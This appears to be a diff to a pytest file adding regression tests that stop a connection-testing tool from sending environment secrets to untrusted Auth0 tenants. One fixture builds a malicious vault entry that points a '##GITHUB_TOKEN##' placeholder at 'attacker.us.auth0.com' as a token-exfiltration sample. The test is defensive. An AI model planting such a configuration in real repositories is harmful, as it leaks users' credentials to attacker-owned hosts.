@@ -107,14 +107,49 @@ async def test_a_domain_that_is_not_a_bare_host_sends_nothing(workspace, proxy, 
 
 
 async def test_trusted_hosts_are_reached_without_asking(workspace, proxy):
-    for domain, settings, expect in [("my-tenant.us.auth0.com", {}, "my-tenant.us.auth0.com:443"),
-                                     ("login.example.com", {"trustedHosts": ["*.example.com"]}, "login.example.com:443")]:
-        vault(workspace, domain)
+    # *.auth0.com unasked only for values written in the repository; a host the user named
+    # also for values from the environment
+    for domain, secret, settings, expect in [
+            ("my-tenant.us.auth0.com", "literal-in-the-repository", {}, "my-tenant.us.auth0.com:443"),
+            ("login.example.com", "##AWS_SECRET_ACCESS_KEY##", {"trustedHosts": ["*.example.com"]}, "login.example.com:443"),
+            ("my-tenant.us.auth0.com", "##AWS_SECRET_ACCESS_KEY##", {"trustedHosts": ["my-tenant.us.auth0.com"]},
+             "my-tenant.us.auth0.com:443")]:
+        vault(workspace, domain, secret)
         proxy.hosts.clear()
         async with session(workspace, proxy, "Cancel", settings=settings) as s:
             r = await run_test_connection(s)
             assert proxy.hosts == [expect], (domain, proxy.hosts)
             assert s.asked == [] and CANARY not in json.dumps(r)
+
+
+@pytest.mark.parametrize("answer", ["Cancel", None])
+async def test_values_from_the_environment_go_to_an_auth0_tenant_only_when_named(workspace, proxy, answer):
+    """Issue 20.2: anyone can own `attacker.us.auth0.com`; a repository with
+    `"client_id": "##GITHUB_TOKEN##"` and that domain got the token on one click."""
+    (workspace / VAULT).write_text(json.dumps({
+        "name": "Users M2M", "app_id": "AUTH0",
+        "setup": {"type": "OAUTH_APP", "client_id": "##GITHUB_TOKEN##", "client_secret": "literal-secret",
+                  "domain": "attacker.us.auth0.com"}}, indent=2))
+    async with session(workspace, proxy, answer) as s:
+        r = await run_test_connection(s)
+        assert r["ok"] is False and r["error"] == "cancelled", r
+        assert proxy.hosts == [], proxy.hosts
+        [asked] = s.asked
+        assert asked.type == t.MessageType.Warning
+        assert "attacker.us.auth0.com" in asked.message and "GITHUB_TOKEN" in asked.message, asked.message
+        assert [a.title for a in asked.actions] == ["Send", "Cancel"]
+        assert "GITHUB_TOKEN" in r["error_description"], r
+        assert CANARY not in json.dumps(r) + asked.message
+    # the command line refuses it unless --trust-host names the host
+    e = {**__import__("os").environ, **env(proxy)}
+    p = subprocess.run([BIN, "test-connection", str(workspace / VAULT), "--timeout-seconds", "3"], env=e,
+                       capture_output=True, text=True, timeout=30)
+    assert p.returncode == 2 and "untrusted_host" in p.stdout + p.stderr, p.stdout + p.stderr
+    assert "GITHUB_TOKEN" in p.stdout and proxy.hosts == [] and CANARY not in p.stdout + p.stderr
+    p = subprocess.run([BIN, "test-connection", str(workspace / VAULT), "--timeout-seconds", "3", "--format", "json",
+                        "--trust-host", "attacker.us.auth0.com"], env=e, capture_output=True, text=True, timeout=30)
+    assert proxy.hosts == ["attacker.us.auth0.com:443"], (proxy.hosts, p.stdout)
+    assert CANARY not in p.stdout + p.stderr
 
 
 def test_the_cli_refuses_an_untrusted_host_unless_named(workspace, proxy):
